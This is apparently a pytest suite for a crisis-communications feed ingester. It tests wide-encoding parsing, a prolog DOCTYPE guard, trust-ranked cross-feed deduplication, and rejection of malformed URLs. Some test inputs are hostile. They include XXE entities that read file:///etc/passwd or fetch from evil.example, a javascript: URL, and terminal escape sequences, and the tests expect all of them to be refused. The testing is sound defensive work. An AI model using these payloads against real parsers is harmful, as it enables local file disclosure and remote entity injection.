"""Hostile input, round two (feed side): wide encodings, the prolog-only DOCTYPE guard,
cross-feed dedupe that never hides a more trusted source, malformed URLs."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import run_cli_process
from crisiscomm.errors import CrisisError
from crisiscomm.feeds import registry
from crisiscomm.feeds.encoding import normalise_feed_encoding
from crisiscomm.feeds.ingest import ingest_path
from crisiscomm.feeds.links import norm_link
from crisiscomm.feeds.parse import ParseError, check_body, parse_bytes


def rss(items, *, declaration='<?xml version="1.0" encoding="utf-8"?>', prolog="") -> str:
    body = "".join(f"<item><guid>{g}</guid><title>{t}</title><link>{link}</link><description>{t}</description></item>"
                   for g, t, link in items)
    return f'{declaration}{prolog}<rss version="2.0"><channel><title>t</title>{body}</channel></rss>'


WIDE = [
    (codec, bom, declared)
    for codec in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be")
    for bom in (True, False)
    for declared in (codec[:6], "utf-8", None)  # declared right, declared wrong, not declared
]


@pytest.mark.parametrize("codec, bom, declared", WIDE)
def test_utf16_and_utf32_feeds_are_read(codec, bom, declared):
    decl = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    text = "\n " * (not decl) + rss([("w1", "Kızılay çadır kenti kuruldu — Iğdır", "http://e.org/w1")], declaration=decl)
    marks = {"utf-16-le": "\ufeff", "utf-16-be": "\ufeff", "utf-32-le": "\ufeff", "utf-32-be": "\ufeff"}
    body = ((marks[codec] if bom else "") + text).encode(codec)
    parsed = parse_bytes(body)
    assert [i["title"] for i in parsed["items"]] == ["Kızılay çadır kenti kuruldu — Iğdır"]


def test_utf8_bom_and_turkish_code_pages_still_read():
    assert parse_bytes(("\ufeff" + rss([("a", "Şanlıurfa", "http://e.org/a")])).encode("utf-8"))["items"]
    cp = rss([("a", "Ağrı ve Muş", "http://e.org/a")], declaration='<?xml version="1.0" encoding="utf-16"?>')
    assert parse_bytes(cp.encode("cp1254"))["items"][0]["title"] == "Ağrı ve Muş"  # declared wide, is not


@given(st.binary(max_size=200))
@settings(max_examples=300, deadline=None)
def test_encoding_normalisation_never_raises(data):
    assert isinstance(normalise_feed_encoding(data), bytes)
    assert isinstance(normalise_feed_encoding(b"\xff\xfe" + data), bytes)


@pytest.mark.parametrize("prolog, description", [
    ("", "<![CDATA[ <!DOCTYPE ]]> metin"),  # text after the root is never a declaration
    ("<!-- an example: <!DOCTYPE x [<!ENTITY a 'b'>]> -->", "yorum"),  # a comment in the prolog
    ("<?xml-stylesheet href='s.xsl' type='text/xsl'?>", "<![CDATA[<!ENTITY x 'y'>]]>"),
    ('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
     '"http://my.netscape.com/publish/formats/rss-0.91.dtd">', "RSS 0.91"),  # external DTD only: never fetched
])
def test_the_declaration_guard_reads_the_prolog_only(prolog, description):
    body = rss([("c1", "Baraj söylentisi yalanlandı", "http://e.org/c1")], prolog=prolog)
    body = body.replace("<description>Baraj söylentisi yalanlandı</description>", f"<description>{description}</description>")
    items = parse_bytes(body.encode())["items"]
    assert items[0]["title"] == "Baraj söylentisi yalanlandı"


@pytest.mark.parametrize("prolog", [
    '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">]>',
    '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "<!-- c --><!DOCTYPE rss [ <!-- ] --> <!ENTITY a 'x'> ]>",
    "<!ENTITY a 'x'>",
    '<!DOCTYPE rss [<!ELEMENT rss ANY>]>',
    '<!DOCTYPE rss SYSTEM "x.dtd" [ <!ENTITY % p SYSTEM "http://evil.example/p"> %p; ]>',
])
def test_an_internal_subset_or_entity_in_the_prolog_is_refused(prolog):
    with pytest.raises(ParseError, match="DOCTYPE/ENTITY"):
        check_body(rss([("a", "x", "http://e.org/a")], prolog=prolog).encode())


def test_html_pages_are_named_whatever_their_prolog():
    for page in ("<!DOCTYPE html><html><body>giriş</body></html>", "<!-- x --><HTML lang=tr><head></head></HTML>",
                 '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'):
        with pytest.raises(ParseError, match="not a feed: HTML page"):
            check_body(page.encode())


# -- cross-feed dedupe ------------------------------------------------------------------

SOCIAL_LINK = "https://www.afad.gov.tr/duyuru/123?utm_source=x&fbclid=abc"
OFFICIAL_LINK = "https://afad.gov.tr/duyuru/123"


@pytest.mark.parametrize("a, b", [
    (SOCIAL_LINK, OFFICIAL_LINK),
    ("http://m.haber.example/a/b/?gclid=1&id=7#yorum", "https://haber.example/a/b?id=7"),
    ("https://www.youtube.com/watch?v=abc&si=x&feature=share", "https://youtube.com/watch?v=abc"),
    ("https://e.org/a?b=2&a=1&utm_campaign=z&mc_eid=q", "https://E.org:443/a?a=1&b=2"),
])
def test_links_normalise_on_both_sides(a, b):
    assert norm_link(a) == norm_link(b) is not None


def test_links_that_are_different_pages_stay_different():
    assert norm_link("https://e.org/a?id=1") != norm_link("https://e.org/a?id=2")
    assert norm_link("https://e.org/a") != norm_link("https://e.org/b")
    assert norm_link("http://[::1") is None and norm_link("javascript:alert(1)") is None


def _feed(store, tmp_path, name, trust, items):
    path = tmp_path / f"{name}.xml"
    path.write_text(rss(items), encoding="utf-8")
    registry.add_feed(store, str(path), operator="t", name=name, trust=trust)
    return str(path)


def test_an_official_item_is_never_hidden_behind_a_social_one(store, tmp_path):
    social = _feed(store, tmp_path, "sosyal", "social", [("s1", "Tahliye duyurusu paylaşıldı", SOCIAL_LINK)])
    official = _feed(store, tmp_path, "resmi", "official", [("o1", "Battalgazi için tahliye kararı", OFFICIAL_LINK)])
    assert ingest_path(store, social, operator="t")[0].new == 1
    result = ingest_path(store, official, operator="t")[0]
    assert (result.new, result.duplicates) == (1, 0)
    first, second = store.all("SELECT id, title, duplicate_of FROM mentions ORDER BY id")
    assert second["title"] == "Battalgazi için tahliye kararı" and second["duplicate_of"] == first["id"]
    assert store.scalar("SELECT count(*) FROM mentions_fts") == 2  # searchable too


def test_trust_decides_which_later_copy_is_kept(store, tmp_path):
    media = _feed(store, tmp_path, "haber", "media", [("m1", "Haber", "https://e.org/p/1")])
    social = _feed(store, tmp_path, "sosyal", "social", [("s1", "Paylaşım", "https://www.e.org/p/1/?utm_medium=x")])
    media2 = _feed(store, tmp_path, "haber2", "media", [("n1", "Başka haber", "https://e.org/p/1")])
    official = _feed(store, tmp_path, "resmi", "official", [("o1", "Resmî", "https://e.org/p/1"),
                                                             ("o2", "Resmî güncelleme", "https://e.org/p/1#son")])
    assert ingest_path(store, media, operator="t")[0].new == 1
    assert ingest_path(store, social, operator="t")[0].duplicates == 1  # less trusted: a duplicate
    assert ingest_path(store, media2, operator="t")[0].duplicates == 1  # as trusted: a duplicate
    kept = ingest_path(store, official, operator="t")[0]
    assert (kept.new, kept.duplicates) == (2, 0)  # official: always stored, linked to the first
    rows = store.all("SELECT title, duplicate_of FROM mentions ORDER BY id")
    assert [r["title"] for r in rows] == ["Haber", "Resmî", "Resmî güncelleme"]
    assert rows[1]["duplicate_of"] == rows[2]["duplicate_of"] == 1


def test_cli_official_after_social_is_shown_and_found(tmp_path):
    db = tmp_path / "cc.db"
    (tmp_path / "social.xml").write_text(rss([("s1", "Tahliye duyurusu paylaşıldı", SOCIAL_LINK)]), encoding="utf-8")
    (tmp_path / "official.xml").write_text(rss([("o1", "Battalgazi için tahliye kararı", OFFICIAL_LINK)]), encoding="utf-8")
    run_cli_process(db, "incident", "open", "Deprem", "--playbook", "general")
    run_cli_process(db, "feeds", "add", str(tmp_path / "social.xml"), "--name", "sosyal", "--trust", "social")
    run_cli_process(db, "feeds", "add", str(tmp_path / "official.xml"), "--name", "resmi", "--trust", "official")
    assert run_cli_process(db, "ingest", "--feed", "sosyal").returncode == 0
    assert run_cli_process(db, "ingest", "--feed", "resmi").returncode == 0
    found = json.loads(run_cli_process(db, "search", "tahliye kararı", "--json").stdout)
    assert [m["feed"] for m in found] == ["resmi"] and found[0]["duplicate_of"] is not None
    listed = json.loads(run_cli_process(db, "mentions", "1", "--json").stdout)
    assert {m["feed"] for m in listed} == {"sosyal", "resmi"}


# -- malformed URLs ------------------------------------------------------------------------

BAD_URLS = ["http://[::1", "http://[::1]:99999/", "http://a:-1/", "http://", "https:///x", "http://a b/",
            "http://a/\x1b[2J", "ftp://e.org/f", "http://[zz]/", "http://e.org:port/", "wss://e.org/x"]


@pytest.mark.parametrize("url", BAD_URLS)
def test_malformed_urls_are_clear_errors(store, url):
    with pytest.raises(CrisisError):
        registry.add_feed(store, url, operator="t")


def test_cli_malformed_url_is_a_clear_error_without_traceback(tmp_path):
    for url in ("http://[::1", "http://a:99999/x", "http://a/\x1b]52;c;eA==\x07"):
        result = run_cli_process(tmp_path / "cc.db", "feeds", "add", url)
        assert result.returncode in (1, 2) and "Traceback" not in result.stderr
        assert result.stderr.startswith("error: ") and "\x1b" not in result.stderr
    result = run_cli_process(tmp_path / "cc.db", "ingest", "http://[::1")
    assert result.returncode in (1, 2) and "Traceback" not in result.stderr


@given(st.text(max_size=40))
@settings(max_examples=200, deadline=None)
def test_any_url_text_is_accepted_or_a_crisis_error(tail):
    for url in ("http://" + tail, "https://e.org/" + tail):
        try:
            registry.check_url(url)
        except CrisisError:
            pass
        norm_link(url)
